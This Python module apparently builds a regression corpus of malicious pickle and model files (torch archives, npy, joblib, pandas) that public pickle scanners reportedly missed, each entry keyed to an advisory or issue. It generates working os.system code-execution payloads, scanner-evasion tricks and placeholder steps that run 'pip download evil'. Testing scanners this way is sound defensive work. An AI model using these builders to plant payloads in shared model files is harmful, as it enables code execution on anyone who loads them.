"""Files that public scanners of pickles are known to have passed, each built anew.

An attack is a function of a program to run and of the file that it makes, for gadgets that only
write; it gives the bytes. Sources: the advisories and issues of picklescan, modelscan and fickling.
"""

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

Build = Callable[[str, str], bytes]


@dataclass(frozen=True, slots=True)
class Bypass:
    """One file that passed somewhere.

    Attributes:
        build: Makes it.
        loader: What runs it: `pickle`, `joblib`, `numpy`, `pandas`, `torch`, `member`.
        needs: A name that must be there for it to run, as `module:attribute`; empty for none.
        live: False where running it would need the network, or a tool that is not there.
        name: What the file is called.
    """

    build: Build
    loader: str = "pickle"
    needs: str = ""
    live: bool = True
    name: str = "model.pkl"


class Raw(bytes):
    """Instructions that push a value."""


def _push(value: object) -> bytes:
    return bytes(value) if isinstance(value, Raw) else pickle.dumps(value, 3)[2:-1]


def named(path: str) -> Raw:
    module, _, name = path.partition(":")
    return Raw(
        b"".join(b"X" + struct.pack("<I", len(x)) + x.encode() for x in (module, name)) + b"\x93"
    )


def called(path: str | Raw, *values: object) -> Raw:
    function = path if isinstance(path, Raw) else named(path)
    # memo indexes of pushed values may repeat: each is read before the next is written
    return Raw(function + b"(" + b"".join(map(_push, values)) + b"tR")


def whole(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def _python(command: str) -> str:
    return f"__import__('os').system({command!r})"


def gadget(path: str, *values: object, live: bool = True, needs: str = "") -> Bypass:
    """Call a function; words among *values* that start with `$` stand for the payload's parts."""

    def build(command: str, marker: str) -> bytes:
        filled: dict[str, object] = {
            "$command": command,
            "$python": _python(command),
            "$marker": marker,
            "$pickle": _payload(command),
        }
        handed = [filled.get(value, value) if isinstance(value, str) else value for value in values]
        return whole(called(path, *handed))

    return Bypass(build, needs=needs or path, live=live)


def _result_called(path: str, *values: object) -> Bypass:
    return Bypass(lambda command, _: whole(called(called(path, *values), command)), needs=path)


_BAG = called("argparse:Namespace")


def _methodcaller(command: str, _: str) -> bytes:
    module = called("importlib:import_module", "os")
    return whole(called(called("operator:methodcaller", "system", command), module))


def _marshalled(command: str, _: str) -> bytes:
    code = marshal.dumps(compile(_python(command), "model", "eval"))
    scope = called("builtins:globals")
    return whole(called(called("types:FunctionType", called("marshal:loads", code), scope)))


def _attributes_of_a_function(command: str, _: str) -> bytes:
    """Keep both names in attributes of an allowed function, and read them as dotted names."""

    def kept(name: str, value: str) -> bytes:
        return b"N}" + _push(name) + _push(value) + b"s\x86b"

    prod = named("numpy:prod") + kept("a", "os") + kept("b", "system") + b"0"
    named_by_them = named("numpy:prod.a") + named("numpy:prod.b") + b"\x93"
    return whole(prod + called(Raw(named_by_them), command))


def _memo(command: str, _: str) -> bytes:
    """Remember names under numbers that a scanner counts in another way."""
    strings = b"Vprint\np5\n0Vbuiltins\np6\n0Vsystem\np1\n0Vposix\np9\n0"
    return whole(strings + called(Raw(b"g9\ng1\n\x93"), command))


def _protocol_in_the_middle(command: str, _: str) -> bytes:
    return b"\x80\x04N0\x80\x00" + called("posix:system", command) + b"0\x80\x05N."


def _state_added(command: str, _: str) -> bytes:
    return whole(called("posix:system", command) + b"0" + called("collections:OrderedDict") + b"}b")


def _popped(command: str, _: str) -> bytes:
    return whole(called("posix:system", command) + b"0" + _push({"weights": [1.0]}))


def _obj(command: str, _: str) -> bytes:
    return whole(b"(" + named("posix:system") + _push(command) + b"o0N")


def _broken(command: str, _: str) -> bytes:
    return b"\x80\x04" + called("posix:system", command) + b"X\xff"


def _zip(members: list[tuple[str, bytes]], squeeze: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", squeeze) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return stream.getvalue()


def _payload(command: str) -> bytes:
    return whole(called("posix:system", command))


def _torch(pickled: bytes, *more: tuple[str, bytes]) -> bytes:
    return _zip([("m/data.pkl", pickled), ("m/version", b"3\n"), ("m/byteorder", b"little"), *more])


def _torch_flags(before: int, in_table: int) -> Build:
    def build(command: str, _: str) -> bytes:
        content = bytearray(_torch(_payload(command)))
        content[6] |= before
        content[content.index(b"PK\x01\x02") + 8] |= in_table
        return bytes(content)

    return build


def _torch_sum(command: str, _: str) -> bytes:
    content = bytearray(_torch(_payload(command)))
    at = content.index(b"PK\x01\x02")
    content[14:18] = content[at + 16 : at + 20] = b"\0\0\0\1"
    return bytes(content)


def _torch_names(command: str, _: str) -> bytes:
    content = _torch(_payload(command))
    return content.replace(b"m/data.pkl", b"m/data.txt", 1)  # in the record before the member


def _torch_twice(command: str, _: str) -> bytes:
    return _torch(_payload(command), ("m/data.pk1", pickle.dumps({}))).replace(
        b"data.pk1", b"data.pkl"
    )


def _torch_tar(magic: bool) -> Build:  # noqa: FBT001 - a case of the table
    def build(command: str, _: str) -> bytes:
        stream = io.BytesIO()
        with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as archive:
            for name in ("storages", "tensors", "pickle", "sys_info"):
                info = tarfile.TarInfo(name)
                info.size = len(_payload(command))
                archive.addfile(info, io.BytesIO(_payload(command)))
        content = stream.getvalue()
        return content if magic else _without_magic(content)

    return build


def _without_magic(content: bytes) -> bytes:
    """Write the first header as tars were written before 1988, with no word that marks them."""
    head = bytearray(content[:512])
    head[257:265] = bytes(8)
    head[148:156] = b" " * 8
    head[148:156] = f"{sum(head):06o}\0 ".encode()
    return bytes(head) + content[512:]


def _npy(command: str, _: str) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + _payload(command)


def _packed(pack: Callable[[bytes], bytes]) -> Bypass:
    return Bypass(lambda command, _: pack(_payload(command)), "joblib", name="model.joblib")


def _old_joblib(content: bytes) -> bytes:
    return b"ZF" + hex(len(content)).ljust(19).encode() + zlib.compress(content)


BYPASSES: dict[str, Bypass] = {
    "picklescan CVE-2025-1716: pip.main": gadget("pip:main", ["download", "evil"], live=False),
    "picklescan GHSA-vqmv-47xg-9wpr: ensurepip._run_pip": gadget(
        "ensurepip:_run_pip", ["install", "evil"], [], live=False),
    "picklescan GHSA-vqmv-47xg-9wpr: venv.create": gadget("venv:create", "$marker", live=False),
    "picklescan CVE-2025-10157: asyncio.unix_events": gadget(
        "asyncio.unix_events:_UnixSubprocessTransport._start",
        _BAG, "$command", 1, None, None, None, 0),
    "picklescan: idlelib.calltip": gadget("idlelib.calltip:get_entity", "$python", live=False),
    "picklescan: idlelib.run": gadget("idlelib.run:Executive.runcode", "$python", live=False),
    "picklescan: lib2to3 Grammar.loads": gadget(
        "lib2to3.pgen2.grammar:Grammar.loads", _BAG, "$pickle"),
    "picklescan GHSA-46h3-79wf-xr6c: doctest.debug_script": gadget(
        "doctest:debug_script", "$python", 1),
    "picklescan GHSA-4675-36f9-wf6r: bdb.Bdb.run": gadget(
        "bdb:Bdb.run", called("bdb:Bdb"), "$python"),
    "picklescan: profile.run": gadget("profile:run", "$python", "/dev/null"),
    "picklescan: cProfile.run": gadget("cProfile:run", "$python", "/dev/null"),
    "picklescan: trace.Trace.run": gadget(
        "trace:Trace.run", called("trace:Trace", 0, 0), "$python"),
    "picklescan: timeit.timeit": gadget("timeit:timeit", "$python", "pass", named("time:time"), 1),
    "picklescan: code.InteractiveInterpreter": gadget(
        "code:InteractiveInterpreter.runsource", called("code:InteractiveInterpreter"), "$python"),
    "picklescan: ctypes.CDLL": gadget("ctypes:CDLL", "evil.so", live=False),
    "picklescan: pydoc.pipepager": gadget("pydoc:pipepager", "text", "$command"),
    "picklescan GHSA-955r-x9j8-7rhh: _operator.methodcaller": Bypass(
        _methodcaller, needs="operator:methodcaller"),
    "picklescan: pkgutil.resolve_name": _result_called("pkgutil:resolve_name", "os:system"),
    "picklescan: functools.partial": _result_called("functools:partial", named("posix:system")),
    "picklescan GHSA-84r2-jw7c-4r5q: a pickle in a pickle": gadget("pickle:loads", "$pickle"),
    "picklescan: numpy.f2py getlincoef": gadget(
        "numpy.f2py.crackfortran:getlincoef", "$python", {}),
    "picklescan: numpy.f2py param_eval": gadget(
        "numpy.f2py.crackfortran:param_eval", "$python", {}, {}),
    "picklescan: numpy.f2py _eval_length": gadget(
        "numpy.f2py.crackfortran:_eval_length", "$python", {}),
    "picklescan: numpy runstring": gadget("numpy.testing._private.utils:runstring", "$python", {}),
    "picklescan: torch collect_env": gadget("torch.utils.collect_env:run", "$command"),
    "picklescan: torch load_config": gadget(
        "torch.utils._config_module:ConfigModule.load_config", _BAG, "$pickle"),
    "picklescan: torch bottleneck": gadget(
        "torch.utils.bottleneck.__main__:run_cprofile", "$python", {}),
    "picklescan: torch execWrapper": gadget(
        "torch.jit.unsupported_tensor_ops:execWrapper", "$python", {}, {}),
    "picklescan: torch GuardBuilder": gadget(
        "torch._dynamo.guards:GuardBuilder.get", _BAG, "$python", live=False),
    "picklescan GHSA-hgrh-qx5j-jfwx: ssl.get_server_certificate": gadget(
        "ssl:get_server_certificate", ("example.org", 443), live=False),
    "picklescan: _osx_support": gadget("_osx_support:_read_output", "$command"),
    "picklescan: uuid._get_command_stdout": gadget("uuid:_get_command_stdout", "$command", "now"),
    "picklescan: imaplib.IMAP4_stream": gadget("imaplib:IMAP4_stream", "$command"),
    "picklescan: test.support": gadget(
        "test.support.script_helper:assert_python_ok", "-c", "$python"),
    "picklescan: logging.FileHandler": gadget("logging:FileHandler", "$marker"),
    "picklescan: _io.FileIO": gadget("_io:FileIO", "$marker", "w"),
    "picklescan: distutils.file_util.write_file": gadget(
        "distutils.file_util:write_file", "$marker", ["text"]),
    "fickling: marshal and types.FunctionType": Bypass(_marshalled),
    "fickling: a call whose result is dropped": Bypass(_popped),
    "fickling GHSA-mhc9-48gj-9gp3: BUILD behind the call": Bypass(_state_added),
    "fickling: OBJ": Bypass(_obj),
    "fickling: runpy.run_path": gadget("runpy:run_path", "evil.py", live=False),
    "modelscan issue 85: names in attributes of a function": Bypass(_attributes_of_a_function),
    "picklescan issue 22: numbers of the memo": Bypass(_memo),
    "PROTO in the middle": Bypass(_protocol_in_the_middle),
    "nullifAI: broken behind the payload": Bypass(_broken),
    "nullifAI: 7z": Bypass(
        lambda command, _: b"7z\xbc\xaf\x27\x1c\x00\x04" + _payload(command), live=False,
        name="pytorch_model.bin"),
    "picklescan CVE-2025-10155: another extension": Bypass(
        lambda command, _: _payload(command), "torch", name="pytorch_model.bin"),
    "picklescan CVE-2025-1889: another extension in an archive": Bypass(
        lambda command, _: _torch(pickle.dumps({}, 2), ("m/config.p", _payload(command))), "member",
        name="model.pt"),
    "picklescan CVE-2025-1944: two names for one member": Bypass(
        _torch_names, "torch", name="model.pt"),
    "picklescan CVE-2025-1945: encrypted, says the member": Bypass(
        _torch_flags(1, 0), "torch", name="model.pt"),
    "picklescan CVE-2025-1945: patched, says the member": Bypass(
        _torch_flags(0x20, 0), "torch", name="model.pt"),
    "picklescan CVE-2025-1945: encrypted, says the table": Bypass(
        _torch_flags(0, 1), live=False, name="model.pt"),
    "picklescan CVE-2025-10156: a wrong checksum": Bypass(_torch_sum, "torch", name="model.pt"),
    "one member twice": Bypass(_torch_twice, "torch", name="model.pt"),
    "torch archive": Bypass(lambda command, _: _torch(_payload(command)), "torch", name="model.pt"),
    "torch tar": Bypass(_torch_tar(magic=True), "torch", name="model.pt"),
    "torch tar without a mark": Bypass(_torch_tar(magic=False), "torch", name="model.pt"),
    "numpy objects": Bypass(_npy, "numpy", name="data.npy"),
    "numpy objects in an archive": Bypass(
        lambda command, _: _zip([("a.npy", _npy(command, ""))]), "numpy", name="data.npz"),
    "numpy: a pickle under its name": Bypass(
        lambda command, _: _payload(command), "numpy", name="data.npy"),
    "pandas: zip": Bypass(
        lambda command, _: _zip([("a", _payload(command))], zipfile.ZIP_DEFLATED), "pandas",
        name="frame.zip"),
    "pandas: lzma of other properties": Bypass(
        lambda command, _: lzma.compress(_payload(command), lzma.FORMAT_ALONE, filters=[
            {"id": lzma.FILTER_LZMA1, "preset": 6, "lc": 0, "pb": 0}]), "pandas", name="frame.xz"),
    "joblib: zlib": _packed(zlib.compress),
    "joblib: gzip": _packed(gzip.compress),
    "joblib: bz2": _packed(bz2.compress),
    "joblib: xz": _packed(lzma.compress),
    "joblib: lzma": _packed(lambda content: lzma.compress(content, lzma.FORMAT_ALONE)),
    "joblib: as before 2016": _packed(_old_joblib),
}  # fmt: skip
